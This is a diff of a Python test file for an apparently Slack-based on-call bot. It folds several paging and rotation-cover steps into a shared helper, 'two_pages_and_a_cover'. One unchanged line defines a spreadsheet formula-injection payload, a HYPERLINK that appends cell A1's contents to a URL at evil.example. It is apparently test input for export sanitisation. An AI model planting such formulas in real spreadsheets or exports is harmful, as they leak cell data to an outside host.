@@ -12,9 +12,9 @@ from datetime import UTC, datetime, timedelta
 from urllib.parse import urlsplit
 
 from bot.http.tokens import page_token
-from bot.slack.ids import ActionId, BlockId
 from bot.views.burden import HEADER
-from tests.test_paging import button_value, dms_to, with_rotation
+from tests.test_fairness import two_pages_and_a_cover
+from tests.test_paging import with_rotation
 
 RATES = "weekday=0,offhours=1.5,weekend=3,holiday=4"
 EVIL = '=HYPERLINK("https://evil.example/?"&A1,"payroll")'
@@ -29,23 +29,7 @@ async def november(bot) -> None:
     await bot.runtime.services.people.refresh(["U0C"])
     _, body, _ = await bot.slack.command("me holidays US", user="U0B")
     assert body.startswith("Done"), body
-    await bot.declare("Checkout is down", priority="P0", user="U0B")
-    [dm] = dms_to(bot, "U0A")
-    bot.clock.advance(minutes=4)
-    status, _, _ = await bot.slack.click(ActionId.PAGE_ACKNOWLEDGE, button_value(dm, ActionId.PAGE_ACKNOWLEDGE),
-                                         user="U0A", channel="DU0A", block_id="page_actions")
-    assert status == 200
-    await bot.settle()
-    bot.clock.set(datetime(2026, 11, 26, 2, 0, tzinfo=UTC))
-    await bot.declare("Search is down", priority="P0", user="U0B")
-    assert len(dms_to(bot, "U0A")) == 2
-    await bot.slack.command("rotation cover payments 2026-11-27 09:00 2026-11-27 17:00", user="U0A", channel="C0PAY")
-    await bot.settle()
-    request = next(m for (channel, _), m in bot.fake.messages.items() if channel == "C0PAY" and ":sos:" in m["text"])
-    await bot.slack.click(ActionId.COVER_TAKE, button_value(request, ActionId.COVER_TAKE), user="U0C",
-                          channel="C0PAY", block_id=BlockId.COVER_ACTIONS)
-    await bot.settle()
-    bot.clock.set(datetime(2026, 12, 16, 12, 0, tzinfo=UTC))
+    await two_pages_and_a_cover(bot)
 
 
 def sections(body: str) -> str:
